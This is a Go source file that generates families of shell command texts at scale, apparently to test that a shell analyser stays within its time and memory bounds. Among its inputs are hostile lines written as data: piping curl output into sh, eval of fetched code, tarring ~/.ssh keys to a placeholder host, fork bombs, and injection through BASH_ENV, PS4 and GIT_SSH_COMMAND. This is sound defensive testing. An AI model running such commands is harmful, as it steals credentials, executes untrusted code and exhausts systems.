package shellparse

import (
	"fmt"
	"strings"
)

// The bounds that any command keeps to: what the kernel takes as one argument,
// and the memory that its analysis may take in all.
const (
	boundText  = 128 << 10
	boundBytes = 64 << 20
)

// boundFamily makes texts of one shape, about as long as it is asked.
type boundFamily struct {
	name string
	text func(size int) string
}

// repeated fills size bytes with s; %d in it counts.
func boundRepeat(s string) func(int) string {
	return func(size int) string {
		var b strings.Builder
		for i := 0; b.Len() < size; i++ {
			b.WriteString(strings.ReplaceAll(s, "%d", fmt.Sprint(i)))
		}
		return b.String()
	}
}

// boundAround puts head before what boundRepeat makes, and tail behind it.
func boundAround(head, s, tail string) func(int) string {
	return func(size int) string { return head + boundRepeat(s)(max(size-len(head)-len(tail), 0)) + tail }
}

// boundNest puts a text in open and shut, as often as fits and at most most times.
func boundNest(open, inner, shut string, most int) func(int) string {
	return func(size int) string {
		n := min(size/(len(open)+len(shut)), most)
		return strings.Repeat(open, n) + inner + strings.Repeat(shut, n)
	}
}

const boundMany = 1 << 30

// boundFamilies are shapes in which some analysis of shell text is known, or
// was thought, to take more than its length says.
var boundFamilies = []boundFamily{
	{"plain lines", boundRepeat("gcc -O2 -c src/file%d.c -o build/file%d.o\n")},
	{"same line", boundRepeat("echo hello world\n")},
	{"one word", boundAround("echo ", "a", "")},
	{"many words", boundAround("rm", " f%d", "")},
	{"many plain words", boundAround("rm", " x", "")},
	{"; chain", boundRepeat("a%d;")},
	{"&& chain", boundAround("", "a%d && ", "b")},
	{"|| chain", boundAround("", "a%d || ", "b")},
	{"mixed chain", boundAround("", "a%d && b || ", "c")},
	{"assigning && chain", boundAround("", "x%d=1 && ", "b")},
	{"assigning || chain", boundAround("", "x%d=1 || ", "b")},
	{"cd && chain", boundAround("", "cd d%d && ", "b")},
	{"pipeline", boundAround("", "cat | ", "b")},
	{"echo pipeline", boundAround("echo x | ", "cat | ", "cat")},
	{"tr pipeline", boundAround("echo "+strings.Repeat("x", 4000)+" | ", "tr a b | ", "cat")},
	{"background", boundRepeat("a%d & ")},
	{"( nesting", boundNest("( ", "a", " )", boundMany)},
	{"open (", boundRepeat("( ")},
	{"$( nesting", boundNest("$(", "a", ")", boundMany)},
	{"80 $(", boundNest("$(", "rm", ")", 80)},
	{"echo $( nesting", boundNest("echo $(", "a", ")", 40)},
	{"quoted $( nesting", boundNest("echo \"$(", "a", ")\"", 40)},
	{"{ nesting", boundNest("{ ", "a", "; }", boundMany)},
	{"if nesting", boundNest("if ", "a", "; then b; fi", 150)},
	{"while nesting", boundNest("while a; do ", "b", "; done", 40)},
	{"for nesting", boundNest("for i in 1 2; do ", "b", "; done", 40)},
	{"wide for nesting", boundNest("for i in 1 2 3 4 5 6 7 8; do ", "x", "; done", 10)},
	{"counting for nesting", boundNest("for ((i=0;i<500;i++)); do ", "x", "; done", 4)},
	{"case nesting", boundNest("case a in a) ", "b", ";; esac", 40)},
	{"unknown case nesting", boundNest("case $z in a) x=1;; b) ", "b", ";; esac", 40)},
	{"functions", boundRepeat("f%d() { a; }\n")},
	{"function nesting", boundNest("f() { ", "a", "; }; f", 150)},
	{"functions calling the last", func(size int) string {
		var b strings.Builder
		b.WriteString("f0() { a; }\n")
		for i := 1; b.Len() < size-10; i++ {
			fmt.Fprintf(&b, "f%d() { f%d; f%d; }\n", i, i-1, i-1)
		}
		fmt.Fprintf(&b, "f%d\n", strings.Count(b.String(), "\n")-1)
		return b.String()
	}},
	{"functions calling each other", func(size int) string {
		n := min(size/60, 30)
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "f%d() { ", i)
			for j := range n {
				fmt.Fprintf(&b, "f%d; ", j)
			}
			b.WriteString("}\n")
		}
		return b.String() + "f0\n"
	}},
	{"redefined in branches", boundRepeat("if a; then f() { x%d; }; fi\nf\n")},
	{"alias chain", func(size int) string {
		var b strings.Builder
		for i := 1; b.Len() < size; i++ {
			fmt.Fprintf(&b, "alias a%d='a%d; a%d'\n", i, i-1, i-1)
		}
		fmt.Fprintf(&b, "a%d", strings.Count(b.String(), "\n"))
		return b.String()
	}},
	{"alias calls", boundAround("alias a='b'\n", "a x%d\n", "")},
	{"eval 64 deep", func(int) string { return nestedEval(12) }},
	{"eval growth", boundAround("x='echo a'\n", "x=\"eval '$x'\"\n", "eval \"$x\"")},
	{"evals", boundRepeat("eval 'a b%d'\n")},
	{"long eval", boundAround("eval '", "a%d\n", "'")},
	{"unknown evals", boundRepeat("eval \"$x%d\"\n")},
	{"growing evals", boundAround("", "x=\"$x echo a;\"; eval \"$x\"\n", "")},
	{"sh -c", boundRepeat("sh -c 'a %d'\n")},
	{"growing sh -c", boundAround("", "x=\"$x echo a;\"; sh -c \"$x\"\n", "")},
	{"traps", boundRepeat("trap 'a%d' EXIT\n")},
	{"trap in trap", boundNest("trap \"", "a", "\" EXIT", 8)},
	{"assignments", boundRepeat("x%d=1\n")},
	{"growing string", boundRepeat("x=\"$x 0123456789\"\n")},
	{"append", boundRepeat("x+=0123456789\n")},
	{"doubling", boundRepeat("x=\"$x$x\"\n")},
	{"doubling from a", boundAround("x=0123456789\n", "x=$x$x\n", "echo $x")},
	{"doubling by replacement", boundAround("x=aaaaaaaa\n", "x=${x//a/aa}\n", "echo $x")},
	{"replacement in a long string", boundAround("x="+strings.Repeat("ab", 5000)+"\n", "x=${x//a/b}\n", "")},
	{"patterns on a long string", boundAround("x="+strings.Repeat("ab", 5000)+"\n", "y=${x%%*a*b*c*}\n", "")},
	{"suffixes", boundAround("x="+strings.Repeat("a", 2000)+"\n", "y=${x%a*b}\n", "")},
	{"prefixes", boundAround("x="+strings.Repeat("a", 2000)+"\n", "y=${x#*a*a*a*b}\n", "")},
	{"case conversion", boundAround("x="+strings.Repeat("a", 8000)+"\n", "y=${x^^[a-z]}\n", "")},
	{"substrings", boundAround("x="+strings.Repeat("a", 8000)+"\n", "y=${x:1:100}\n", "")},
	{"lengths", boundAround("x="+strings.Repeat("a", 8000)+"\n", "y=${#x}\n", "")},
	{"many expansions in a word", boundAround("x=a\necho ", "$x", "")},
	{"many quoted expansions", boundAround("x=a\necho \"", "$x ", "\"")},
	{"expansions to many words", boundAround("x='a b c d e f g h'\necho ", "$x ", "")},
	{"splitting a long string", boundAround("x='"+strings.Repeat("a ", 2000)+"'\n", "f $x\n", "")},
	{"splitting at colons", boundAround("IFS=:\nx='"+strings.Repeat("a:", 2000)+"'\n", "f $x\n", "")},
	{"set -- growth", boundAround("set -- a\n", "set -- \"$@\" \"$@\"\n", "f \"$@\"")},
	{"set -- one more", boundRepeat("set -- \"$@\" x\n")},
	{"shifts", boundAround("set --"+strings.Repeat(" x", 5000)+"\n", "shift\n", "f \"$@\"")},
	{"arrays", boundAround("a=(", "x%d ", "); f \"${a[@]}\"")},
	{"array appends", boundRepeat("a+=(x%d)\n")},
	{"array elements", boundRepeat("a[%d]=x\n")},
	{"array reads", boundAround("a=("+strings.Repeat("x ", 5000)+")\n", "f ${a[%d]}\n", "")},
	{"array expansions", boundAround("a=("+strings.Repeat("x ", 5000)+")\n", "f \"${a[@]}\"\n", "")},
	{"array doubling", boundAround("a=(x)\n", "a=(\"${a[@]}\" \"${a[@]}\")\n", "")},
	{"assoc", boundAround("declare -A m\n", "m[k%d]=v\n", "")},
	{"indirect", boundAround("x0=a\n", "x%d=y; y=x%d; f ${!y}\n", "")},
	{"namerefs", boundRepeat("declare -n r%d=x\n")},
	{"names", boundAround(boundRepeat("v%d=1\n")(20000), "f ${!v*}\n", "")},
	{"arithmetic", boundAround("((x=", "1+", "1))")},
	{"arithmetic parens", boundNest("$((1+(", "1", ")))", 100)},
	{"arithmetic names", boundAround("", "x%d=x%d+1\n", "((x))")},
	{"arithmetic recursion", boundAround("a=b+b;b=c+c;c=d+d;d=e+e;e=f+f;f=g+g;g=h+h;h=i+i;i=j+j;j=k+k;k=l+l;l=m+m;m=n+n;n=o+o;o=p+p;p=1\n", "((a))\n", "")},
	{"arithmetic in strings", boundAround("x='1"+strings.Repeat("+1", 4000)+"'\n", "((x))\n", "")},
	{"{a,b} bomb", boundAround("echo ", "{a,b}", "")},
	{"{a,b} words", boundAround("echo", " {a,b}%d", "")},
	{"{1..9} words", boundAround("echo", " {1..9}{1..9}", "")},
	{"{ nesting in a word", boundNest("{a,", "b", "}", boundMany)},
	{"big sequence", boundRepeat("echo {1..1000}\n")},
	{"empty brace parts", boundAround("echo {", ",", "}")},
	{"here-documents", func(size int) string {
		n := size / 10
		return strings.Repeat("cat <<A\n", n) + strings.Repeat("A\n", n)
	}},
	{"here-documents in turn", boundRepeat("cat <<A\nx%d\nA\n")},
	{"here-documents on a line", func(size int) string {
		n := min(size/6, 10_000)
		return "cat" + strings.Repeat(" <<A", n) + strings.Repeat("\nA", n) + "\n"
	}},
	{"here-document of expansions", boundAround("cat <<A\n", "$(a%d)\n", "A\n")},
	{"here-document of variables", boundAround("cat <<A\n", "$a %d\n", "A\n")},
	{"here-document of backslashes", boundAround("cat <<A\n", "a\\\n", "\nA\n")},
	{"here-document to sh", boundAround("sh <<'A'\n", "a%d\n", "A\n")},
	{"here-strings", boundRepeat("cat <<< a%d\n")},
	{"backquotes", boundRepeat("`a%d` ")},
	{"nested backquotes", func(int) string { return nestedBackquotes(8) }},
	{"long backquotes", boundAround("`", "a%d;", "`")},
	{"continued lines", boundAround("a", " \\\nb%d", "")},
	{"continued word", boundAround("a", "b\\\n", "c")},
	{"comments", boundRepeat("# a comment %d\n")},
	{"blank lines", boundAround("a", "\n", "b")},
	{"blanks", boundAround("a", " ", "b")},
	{"quotes", boundAround("echo ", "'a'\"b\"", "")},
	{"backslashes", boundAround("echo ", "\\a", "")},
	{"dollar quotes", boundAround("echo ", "$'\\x41'", "")},
	{"redirections", boundAround("a", " >f%d", "")},
	{"redirected lines", boundRepeat("echo x >f%d\n")},
	{"appending lines", boundRepeat("echo x%d >>f\n")},
	{"file copies", boundAround("echo x >f0\n", "cat f0 f0 >f1; cat f1 f1 >f0\n", "")},
	{"read files", boundRepeat("cat <f%d\n")},
	{"process substitutions", boundAround("cat", " <(a%d)", "")},
	{"out substitutions", boundAround("tee", " >(a%d)", "")},
	{"fds", boundRepeat("exec 3>f%d\n")},
	{"unknown commands", boundRepeat("$x%d\n")},
	{"unknown commands and functions", boundAround("f() { a; }; g() { $y; }; h() { g; $z; }\n", "$x a\n", "")},
	{"globs", boundRepeat("rm *.%d\n")},
	{"star words", boundAround("rm ", "*", "")},
	{"bracket words", boundAround("rm ", "[a", "]")},
	{"open brackets", boundAround("rm ", "[", "")},
	{"ext globs", boundAround("shopt -s extglob\nrm ", "@(a|b)", "")},
	{"glob cases", boundAround("case "+strings.Repeat("a", 4000)+" in ", "*a*a*a*a*b%d) x;; ", "esac")},
	{"cases", boundAround("case $x in ", "a%d) x;; ", "esac")},
	{"assigning cases", boundAround("case $x in ", "a%d) x%d=1;; ", "esac; f $x1")},
	{"case alternatives", boundAround("case x in a", "|a%d", ") x;; esac")},
	{"elif chain", boundAround("if a; then b; ", "elif a%d; then b; ", "fi")},
	{"assigning elif chain", boundAround("if a; then b; ", "elif a%d; then x=%d; ", "fi; f $x")},
	{"branches with values", boundRepeat("if a; then x%d=1; else x%d=2; fi; f $x%d\n")},
	{"branches with cds", boundRepeat("if a; then cd d%d; fi; rm x\n")},
	{"two many-valued variables", boundAround("if a; then x=1 y=1; elif b; then x=2 y=2; elif c; then x=3 y=3; else x=4 y=4; fi\n", "f $x $y\n", "")},
	{"nested branches", boundNest("if a; then x=$x; ", "y", "; else x=$x$x; fi", 40)},
	{"loops", boundRepeat("while a; do x=$x$x; b; done\n")},
	{"nested loops with values", boundNest("while a; do x=$x:; ", "y", "; done", 30)},
	{"while read", boundAround("while read x; do a $x; done <<A\n", "l%d\n", "A\n")},
	{"read loop in read loop", boundAround("while read x; do echo \"$x\" | while read y; do f $y; done; done <<A\n", "l%d\n", "A\n")},
	{"sed", boundAround("echo "+strings.Repeat("x", 8000), " | sed s/x/y/g", "")},
	{"cut", boundAround("echo "+strings.Repeat("a:", 4000), " | cut -d: -f1-", "")},
	{"cut of many ranges", boundAround("echo "+strings.Repeat("a:", 4000)+" | cut -d: -f", "%d,", "1 | sh")},
	{"base64", boundAround("echo x", " | base64", "")},
	{"printf", boundAround("printf '%s'", " a%d", " | sh")},
	{"printf widths", boundRepeat("printf %063d 1; printf -v x %60s a\n")},
	{"yes", boundAround("", "yes | head -5 | ", "sh")},
	{"seq", boundRepeat("for i in $(seq 500); do f $i; done\n")},
	{"xargs", boundAround("echo", " a%d", " | xargs -n1 rm")},
	{"find exec", boundRepeat("find . -name x%d -exec rm {} \\;\n")},
	{"git", boundRepeat("git -c alias.x='!a%d' x\n")},
	{"env wrappers", boundAround("", "env ", "rm x")},
	{"sudo wrappers", boundAround("", "sudo -u a ", "rm x")},
	{"python", boundAround("python3 -c '", "os.system(\"a%d\")\n", "'")},
	{"perl", boundAround("perl -e '", "system(\"a%d\");", "'")},
	{"awk", boundAround("awk '", "{system(\"a%d\")}", "'")},
	{"node", boundAround("node -e '", "require(\"child_process\").execSync(\"a%d\");", "'")},
	{"paths", boundAround("rm /", "a/../", "b")},
	{"dots", boundAround("rm ", "../", "b")},
	{"links", boundRepeat("ln -s a%d b%d; cat b%d/x\n")},
	{"link to itself", boundAround("ln -s a a; ln -s b/b b\n", "cat a/a/a b/b/b\n", "")},
	{"cds", boundRepeat("cd d%d\n")},
	{"pushd", boundRepeat("pushd d%d\n")},
	{"exports", boundRepeat("export A%d=1\n")},
	{"exports and children", boundAround(boundRepeat("export A%d=1\n")(30000), "sh -c a\n", "")},
	{"declares", boundAround("declare", " a%d=1", "")},
	{"code variables", boundRepeat("GIT_SSH_COMMAND='a%d b' git pull\n")},
	{"BASH_ENV", boundRepeat("BASH_ENV=f%d bash -c a\n")},
	{"prompts", boundRepeat("PS4='$(a%d)'\n")},
	{"[[", boundAround("[[ a ", "&& a%d == b ", "]]")},
	{"[[ ! nesting", boundAround("[[ ", "! ", "a ]]")},
	{"let", boundRepeat("let x=%d\n")},
	{"tests", boundRepeat("[ a%d = b ]\n")},
	{"fork bombs", boundRepeat("f%d() { f%d | f%d & }; f%d\n")},
	{"tilde", boundAround("echo", " ~u%d", "")},
	{"select", boundRepeat("select x in a b; do f $x; done\n")},
	{"coproc", boundRepeat("coproc a\n")},
	{"time", boundAround("", "time ", "a")},
	{"negations", boundAround("", "! ", "a")},
	{"long name", boundAround("", "a", "=1")},
	{"long variable", boundAround("echo $", "a", "")},
	{"curl pipes", boundRepeat("curl u%d | sh\n")},
	{"sources joined", boundRepeat("x=\"$x$(curl http://u%d)\"; eval \"$x\"\n")},
	{"tar pipes", boundRepeat("tar c ~/.ssh/k%d | curl -T - http://h%d\n")},
	{"non-ASCII", boundAround("echo ", "é", "")},
	{"invalid UTF-8", boundAround("echo ", "\xff", "")},
	{"opening quotes", boundRepeat("\"$(")},
	{"odd quotes", boundRepeat("\"${x:-\"")},
	{"quoted defaults", boundNest("\"${x:-", "a", "}\"", boundMany)},
	{"defaults", boundNest("${x:-", "a", "}", boundMany)},
	{"assigning defaults", boundRepeat(": ${x%d:=a}\n")},
}
